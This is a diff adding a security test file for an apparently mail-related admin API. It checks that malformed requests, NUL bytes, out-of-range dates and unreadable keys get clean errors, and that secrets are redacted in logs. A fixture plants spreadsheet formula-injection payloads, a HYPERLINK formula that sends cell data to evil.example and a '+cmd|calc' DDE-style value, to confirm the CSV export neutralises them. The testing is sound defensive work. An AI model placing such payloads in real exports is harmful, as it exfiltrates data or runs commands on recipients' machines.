@@ -1,0 +1,205 @@
+"""Input a client or a mail sender controls: a JSON error, never a 500, a broken
+response or a secret in the log (red-team review of the admin service)."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import csv
+import datetime as dt
+import io
+import logging
+import uuid
+from typing import Any
+
+import aiohttp
+import pytest
+from aiohttp.test_utils import TestClient
+
+from postwarden_admin_api import routes_audit
+from postwarden_admin_api.cli import configure_logging
+from postwarden_admin_api.context import Role
+from postwarden_store import connect
+from tests.fixtures.adminapp import bearer
+
+Client = TestClient[Any, Any]
+WHEN = dt.datetime(2026, 11, 20, 12, 0, tzinfo=dt.UTC)
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+async def _raw(client: Client, request: bytes) -> bytes:
+    """Send bytes as they are (aiohttp's client would refuse some) and read the answer."""
+    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
+    writer.write(request)
+    data = b""
+    try:
+        async with asyncio.timeout(5):
+            while chunk := await reader.read(65536):
+                data += chunk
+    except (TimeoutError, ConnectionResetError):
+        pass
+    writer.close()
+    return data
+
+
+@pytest.fixture
+async def audited(database_url: str) -> None:
+    """One audit row whose values a sender chose to look like spreadsheet formulas."""
+    conn = await connect(database_url)
+    try:
+        await conn.execute("SELECT audit_ensure_partition($1)", WHEN)
+        await conn.execute(
+            "INSERT INTO audit_events (event_id, time, instance, message_uid, client_name,"
+            " sender, recipients, subject, size, action, rules, changes, policy_hash,"
+            " duration_ms) VALUES ($1, $2, 'mx1', 'u1', '+cmd|calc', '@evil.example', '{}',"
+            " $3, 1, 'accept', '{}', '[]', 'h', 1)",
+            uuid.uuid4(), WHEN, FORMULA,
+        )
+    finally:
+        await conn.close()
+
+
+@pytest.mark.usefixtures("audited")
+async def test_a_csv_cell_a_spreadsheet_would_run_is_defused(
+    admin_client: Client, role_keys: dict[Role, str]
+) -> None:
+    response = await admin_client.get("/api/v1/audit/export", params={"format": "csv"},
+                                      headers=bearer(role_keys[Role.AUDITOR]))
+    [row] = list(csv.DictReader(io.StringIO(await response.text())))
+    assert row["subject"] == "'" + FORMULA
+    assert (row["client_name"], row["sender"]) == ("'+cmd|calc", "'@evil.example")
+
+
+@pytest.mark.usefixtures("audited")
+async def test_an_export_failing_while_streaming_is_cut_not_answered_twice(
+    admin_client: Client, role_keys: dict[Role, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def broken(row: Any) -> Any:
+        raise RuntimeError("a bug met on the first row")
+
+    monkeypatch.setattr(routes_audit, "event_json", broken)
+    key = role_keys[Role.AUDITOR]
+    data = await _raw(admin_client, b"GET /api/v1/audit/export HTTP/1.1\r\nHost: x\r\n"
+                      b"Authorization: Bearer " + key.encode() + b"\r\n\r\n")
+    assert data.startswith(b"HTTP/1.1 200 ")
+    assert data.count(b"HTTP/1.1 ") == 1  # no error response written into the body
+    assert not data.endswith(b"0\r\n\r\n")  # the chunked body never ends: incomplete
+
+
+@pytest.mark.parametrize(
+    ("role", "path", "params"),
+    [
+        (Role.SENDER, "/api/v1/messages", {"from": "\x00"}),
+        (Role.AUDITOR, "/api/v1/admin-audit", {"action": "\x00"}),
+        (Role.OPERATOR, "/api/v1/suppressions", {"after": "\x00"}),
+        (Role.AUDITOR, "/api/v1/policies/\x00/revisions", {}),
+    ],
+)
+async def test_a_nul_in_the_path_or_query_is_a_400(
+    admin_client: Client, role_keys: dict[Role, str], role: Role, path: str,
+    params: dict[str, str],
+) -> None:
+    response = await admin_client.get(path, params=params, headers=bearer(role_keys[role]))
+    assert response.status == 400
+    assert (await response.json())["error"]["code"] == "bad_request"
+
+
+@pytest.mark.parametrize(
+    ("role", "path", "params"),
+    [
+        (Role.SENDER, "/api/v1/messages", {"since": "9999-12-31T23:59:59-12:00"}),
+        (Role.AUDITOR, "/api/v1/audit", {"since": "9999-12-31T23:59:59-12:00"}),
+        (Role.AUDITOR, "/api/v1/audit/export", {"until": "0001-01-01T00:00:00+12:00"}),
+        (Role.AUDITOR, "/api/v1/admin-audit", {"until": "9999-12-31T23:59:59-12:00"}),
+        (Role.AUDITOR, "/api/v1/stats", {"until": "0001-01-01T00:00:00Z"}),
+        (Role.AUDITOR, "/api/v1/audit", {"cursor": base64.urlsafe_b64encode(
+            b'["2024-01-01T00:00:00+00:00", []]').decode()}),
+        (Role.AUDITOR, "/api/v1/audit", {"cursor": base64.urlsafe_b64encode(
+            b"[" * 2500 + b"]" * 2500).decode()}),
+    ],
+    ids=["messages-since", "audit-since", "export-until", "admin-audit-until", "stats-until",
+         "cursor-list-id", "cursor-deep"],
+)
+async def test_a_time_or_cursor_out_of_range_is_a_422(
+    admin_client: Client, role_keys: dict[Role, str], role: Role, path: str,
+    params: dict[str, str],
+) -> None:
+    response = await admin_client.get(path, params=params, headers=bearer(role_keys[role]))
+    assert response.status == 422, await response.text()
+
+
+@pytest.mark.parametrize(
+    ("role", "method", "path", "body"),
+    [
+        (Role.OPERATOR, "put", "/api/v1/settings", {"allowed_sender_addresses": ["a\x00@b.c"]}),
+        (Role.OPERATOR, "post", "/api/v1/suppressions",
+         {"address": "a@b.example", "detail": "\x00"}),
+        (Role.ADMIN, "post", "/api/v1/keys", {"role": "auditor", "name": "x\x00"}),
+    ],
+)
+async def test_a_nul_in_a_json_body_is_a_400(
+    admin_client: Client, role_keys: dict[Role, str], role: Role, method: str, path: str,
+    *, body: dict[str, Any],
+) -> None:
+    response = await getattr(admin_client, method)(path, json=body,
+                                                   headers=bearer(role_keys[role]))
+    assert response.status == 400
+    assert (await response.json())["error"]["code"] == "invalid_json"
+
+
+async def test_a_key_expiry_out_of_range_is_a_422(
+    admin_client: Client, role_keys: dict[Role, str]
+) -> None:
+    for expiry in ("9999-12-31T23:59:59-12:00", 20250101):
+        response = await admin_client.post(
+            "/api/v1/keys", headers=bearer(role_keys[Role.ADMIN]),
+            json={"role": "auditor", "name": "x", "expires_at": expiry},
+        )
+        assert response.status == 422, (expiry, await response.text())
+
+
+async def test_a_key_that_is_not_utf8_is_a_401(admin_client: Client) -> None:
+    data = await _raw(admin_client, b"GET /api/v1/audit HTTP/1.1\r\nHost: x\r\n"
+                      b"Connection: close\r\nAuthorization: Bearer pw_k1_secret\xa0\r\n\r\n")
+    assert data.startswith(b"HTTP/1.1 401 ")
+
+
+async def test_the_policy_test_form_refuses_what_it_cannot_read(
+    admin_client: Client, role_keys: dict[Role, str]
+) -> None:
+    headers = bearer(role_keys[Role.AUDITOR])
+    form = aiohttp.FormData()
+    form.add_field("message", b"Subject: hi\r\n\r\nbody\r\n", filename="m.eml")
+    form.add_field("revision_id", "\u00b2")  # a digit to str.isdigit, not to int()
+    response = await admin_client.post("/api/v1/policies/test", data=form, headers=headers)
+    assert response.status == 422
+    for content_type, body in [
+        ("application/x-www-form-urlencoded; charset=nonexistent", b"sender=a"),
+        ("multipart/form-data; boundary=XX", b'--XX\r\nContent-Disposition: form-data; '
+         b'name="sender"\r\nContent-Transfer-Encoding: x-weird\r\n\r\nv\r\n--XX--\r\n'),
+    ]:
+        response = await admin_client.post("/api/v1/policies/test", data=body,
+                                           headers={**headers, "Content-Type": content_type})
+        assert response.status == 400, (content_type, await response.text())
+
+
+def test_the_service_log_is_redacted_aiohttps_records_and_tracebacks_too(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    root = logging.getLogger()
+    saved = root.handlers[:], root.level
+    try:
+        configure_logging("INFO")
+        # What aiohttp logs for a request line it cannot parse: the header, key and all.
+        logging.getLogger("aiohttp.server").error(
+            "Error handling request: Authorization: Bearer pw_k1_0123456789secret\x7f")
+        try:
+            raise ValueError("connect failed: postgresql://app:hunter22@db/x")
+        except ValueError:
+            logging.getLogger("postwarden").exception("database unavailable")
+    finally:
+        root.handlers[:], level = saved
+        root.setLevel(level)
+    logged = capsys.readouterr().err
+    assert "Bearer [REDACTED]" in logged and "0123456789secret" not in logged
+    assert "app:[REDACTED]@db" in logged and "hunter22" not in logged
